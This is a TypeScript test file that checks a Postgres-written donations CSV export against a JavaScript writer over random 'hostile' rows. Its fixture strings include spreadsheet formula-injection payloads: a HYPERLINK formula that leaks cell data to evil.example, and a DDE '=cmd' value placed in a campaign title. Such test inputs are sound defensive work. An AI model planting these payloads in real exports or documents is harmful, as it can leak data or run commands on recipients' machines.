/**
 * The donations export written by Postgres (`COPY … TO STDOUT`, lib/services/exports/donations-copy.ts)
 * is byte for byte the export the JS writer makes of the same rows (`exportDonationsCsvInBatches`),
 * over random rows full of hostile strings, with every filter. On Postgres the whole COPY stream
 * is compared; on PGlite (no COPY to a client) the same per-line SELECT is compared line by line.
 */
import fc from "fast-check";
import { sql } from "drizzle-orm";
import { beforeAll, describe, expect, it } from "vitest";
import { findOrganization } from "@/db/queries/organizations";
import type { Organization } from "@/db/schema";
import { newId } from "@/lib/ids";
import { DONATION_CSV_COLUMNS, exportDonationsCsv, exportDonationsCsvInBatches } from "@/lib/services/exports/export-donations";
import { donationCsvLinesQuery, postgresClientOf } from "@/lib/services/exports/donations-copy";
import type { DonationFilter } from "@/db/queries/donations";
import { nasty } from "../helpers/arbitraries";
import { testDb } from "../helpers/db";
import { activeCampaign, activeOrg, insertDonations, insertDonor, rowsOf, type Campaign, type Org } from "../helpers/records";

/** Postgres text cannot hold NUL; everything else of `nasty` goes in as it is. */
const storable = (s: string) => !s.includes("\u0000");
const hostile = fc.oneof(
  nasty.filter(storable),
  fc.constantFrom(
    "Smith, John",
    'O"Brien',
    'He said "hi", then left',
    "multi\r\nline\nmessage",
    "\rCarriage",
    "\tTabbed",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "'quoted'",
    "Zoë 🎉 日本語",
    "erased+dnr_x@invalid",
    "ERASED+dnr_y@INVALID",
  ),
  fc.string({ unit: "grapheme", maxLength: 20 }).filter(storable),
);
const inJson = hostile.filter((s) => s.isWellFormed());
const maybe = <T>(a: fc.Arbitrary<T>) => fc.option(a, { nil: null });
const instant = fc
  .record({
    ms: fc.integer({ min: Date.parse("2020-01-01T00:00:00Z"), max: Date.parse("2030-01-01T00:00:00Z") }),
    us: fc.integer({ min: 0, max: 999 }),
  })
  .map(({ ms, us }) => new Date(ms).toISOString().replace("Z", String(us).padStart(3, "0") + "Z"));
const donationRow = fc.record(
  {
    status: fc.constantFrom("PENDING", "SUCCEEDED", "FAILED", "REFUNDED", "DISPUTED" as const),
    amount: fc.integer({ min: 0, max: 2_000_000_000 }),
    feeCents: fc.integer({ min: 0, max: 1_000_000 }),
    matchedAmountCents: fc.integer({ min: 0, max: 1_000_000 }),
    currency: fc.constantFrom("usd", "jpy", "bhd", "eur"),
    email: hostile,
    firstName: maybe(hostile),
    lastName: maybe(hostile),
    message: maybe(hostile),
    anonymous: fc.boolean(),
    coverFees: fc.boolean(),
    isRenewal: fc.boolean(),
    tickets: maybe(fc.integer({ min: 0, max: 50 })),
    recurringInterval: maybe(fc.constantFrom("MONTH", "YEAR" as const)),
    failureReason: maybe(hostile),
    disputeReason: maybe(hostile),
    paymentIntentId: maybe(hostile),
    dedication: maybe(
      fc.record(
        // jsonb refuses lone surrogates (text columns store them as U+FFFD).
        { type: fc.constantFrom("HONOR", "MEMORY"), honoreeName: inJson, notifyEmail: maybe(inJson), message: maybe(inJson) },
        { noNullPrototype: true },
      ),
    ),
    createdAt: instant,
    succeededAt: maybe(instant),
    updatedAt: instant,
    onPlain: fc.boolean(),
  },
  { noNullPrototype: true },
);

let org: Org;
let full: Organization;
let campaign: Campaign;
let plain: Campaign;
let onCampaign: string;
let firstNames: string[] = [];

beforeAll(async () => {
  const made = await activeOrg();
  org = made.org;
  campaign = await activeCampaign(org, made.owner);
  plain = await activeCampaign(org, made.owner, { title: "Plain appeal" });
  // Campaign titles are part of each line: hostile ones too.
  await rowsOf(sql`update campaigns set title = ${'=cmd|" /C calc"!A0, "title"\r\n'} where id = ${campaign.id}`);
  full = (await findOrganization(await testDb(), org.id))!;
  const donor = await insertDonor(org.id);
  const rows = fc.sample(donationRow, { numRuns: 300, seed: 15 });
  firstNames = rows.map((r) => r.firstName).filter((n): n is string => !!n);
  await insertDonations(
    rows.map(({ onPlain, createdAt, succeededAt, updatedAt, paymentIntentId, ...r }, i) => ({
      // Absent rather than null: a null goes in as the column's default, which is null here.
      ...Object.fromEntries(Object.entries(r).filter(([, v]) => v !== null)),
      orgId: org.id,
      campaignId: onPlain ? plain.id : campaign.id,
      donorId: donor.id,
      // Unique per donation: a hostile start, a distinct end.
      ...(paymentIntentId !== null ? { paymentIntentId: `${paymentIntentId}#${org.id}-${i}` } : {}),
      createdAt,
      ...(succeededAt ? { succeededAt: sql`${succeededAt}::timestamptz` as unknown as Date } : {}),
      updatedAt: sql`${updatedAt}::timestamptz` as unknown as Date,
    })),
  );
  onCampaign = campaign.id;
}, 120_000);

const text = (body: ReadableStream<Uint8Array>) => new Response(body).arrayBuffer().then((b) => Buffer.from(b));

/** The JS writer's bytes, and Postgres's: the COPY stream on Postgres, the SELECT's lines on PGlite. */
async function both(filter: DonationFilter): Promise<{ js: Buffer; pg: Buffer; lines: number }> {
  const db = await testDb();
  const js = await text(await exportDonationsCsvInBatches(db, full, filter, 7));
  if (postgresClientOf(db)) {
    return {
      js,
      pg: await text(await exportDonationsCsv(db, full, filter)),
      lines: (await rowsOf(sql.raw(donationCsvLinesQuery(full, filter)))).length,
    };
  }
  const lines = await rowsOf<Record<string, string>>(sql.raw(donationCsvLinesQuery(full, filter)));
  const header = js.subarray(0, js.indexOf("\r\n") + 2);
  const body = lines.map((l) => Object.values(l)[0]).join("");
  return { js, pg: Buffer.concat([header, Buffer.from(body, "utf8")]), lines: lines.length };
}

/** The first line that differs, with its neighbour lines, or null: a short failure message instead of a 1 MB diff. */
function firstDifference(pg: Buffer, js: Buffer): { line: number; pg: string; js: string } | null {
  const a = pg.toString("utf8").split("\r\n");
  const b = js.toString("utf8").split("\r\n");
  for (let i = 0; i < Math.max(a.length, b.length); i++) {
    if (a[i] !== b[i]) return { line: i, pg: JSON.stringify(a[i])?.slice(0, 2000), js: JSON.stringify(b[i])?.slice(0, 2000) };
  }
  return null;
}

describe("donations export written by Postgres", () => {
  it("has the JS writer's header", () => {
    expect(DONATION_CSV_COLUMNS.length).toBe(37);
  });

  it("is byte for byte the JS writer's export over 300 random hostile rows", async () => {
    const { js, pg, lines } = await both({});
    expect(lines).toBe(300);
    expect(firstDifference(pg, js)).toBeNull();
    expect(pg.equals(js)).toBe(true);
  });

  it.each<[string, () => DonationFilter]>([
    ["status", () => ({ status: ["SUCCEEDED", "REFUNDED"] })],
    ["campaign", () => ({ campaignId: onCampaign })],
    ["from/to with microseconds", () => ({ from: "2022-03-04T05:06:07.123456Z", to: "2027-01-01T00:00:00.000001Z" })],
    ["search text with quotes and wildcards", () => ({ q: firstNames.find((n) => /['%_\\]/.test(n)) ?? "O'Brien%" })],
    ["search text of a row", () => ({ q: firstNames.find((n) => n.trim().length > 2) ?? "Smith" })],
    ["everything at once", () => ({ status: ["SUCCEEDED"], campaignId: onCampaign, from: "2021-01-01T00:00:00Z", q: "a" })],
  ])("honours the list's filter: %s", async (_, filter) => {
    const f = filter();
    const { js, pg } = await both(f);
    expect(firstDifference(pg, js)).toBeNull();
    expect(pg.equals(js)).toBe(true);
  });

  it("exports run one after another, and one the reader walks away from, each leave their connection usable", async () => {
    const db = await testDb();
    const expected = await text(await exportDonationsCsvInBatches(db, full, {}));
    // More rounds than the pool has connections: a connection a download kept would run it dry.
    for (let i = 0; i < 12; i++) {
      const body = await exportDonationsCsv(db, full, {});
      if (i % 2) {
        const reader = body.getReader();
        await reader.read();
        await reader.read();
        await reader.cancel();
      } else {
        expect((await text(body)).equals(expected)).toBe(true);
      }
    }
    const [r] = await rowsOf<{ n: unknown }>(sql`select count(*) as n from donations where org_id = ${org.id}`);
    expect(Number(r.n)).toBe(300);
  });

  it("a download walked away from early stops its query, also one far larger than the socket's buffers", async () => {
    const db = await testDb();
    const made = await activeOrg();
    const big = await activeCampaign(made.org, made.owner);
    const donor = await insertDonor(made.org.id);
    // About 20 MB of CSV: Postgres is still writing when the reader leaves, not done.
    await rowsOf(sql`
      insert into donations (id, org_id, campaign_id, donor_id, amount, email, message)
      select ${`don_walkaway_${made.org.id}_`} || g, ${made.org.id}, ${big.id}, ${donor.id}, 2500, 'walk' || g || '@example.org', repeat('x', 600)
      from generate_series(1, 30000) g`);
    const bigOrg = (await findOrganization(db, made.org.id))!;
    const body = await exportDonationsCsv(db, bigOrg, {});
    const reader = body.getReader();
    await reader.read();
    await reader.read();
    const leftAt = new Date().toISOString();
    await reader.cancel();
    if (postgresClientOf(db)) {
      // Its COPY was stopped, not left running over rows nobody reads (it held a pool connection,
      // parallel workers and a snapshot that keeps VACUUM from pruning, for as long as it ran).
      const running = async () =>
        Number(
          (
            await rowsOf<{ n: unknown }>(sql`
              select count(*) as n from pg_stat_activity
              where datname = current_database() and state = 'active' and query like 'set local jit%'
                and xact_start < ${leftAt}::timestamptz`)
          )[0].n,
        );
      await expect.poll(running, { timeout: 10_000, interval: 100 }).toBe(0);
    }
    // Its connection is back in the pool: an export per connection still runs to its end.
    const expected = await text(await exportDonationsCsvInBatches(db, full, {}));
    const all = await Promise.all(Array.from({ length: 10 }, async () => text(await exportDonationsCsv(db, full, {}))));
    for (const got of all) expect(got.equals(expected)).toBe(true);
  });

  it("an organization with no matching rows gets the header alone", async () => {
    const { js, pg } = await both({ campaignId: newId("cmp") });
    expect(js.toString("utf8").split("\r\n").length).toBe(2);
    expect(pg.equals(js)).toBe(true);
  });
});
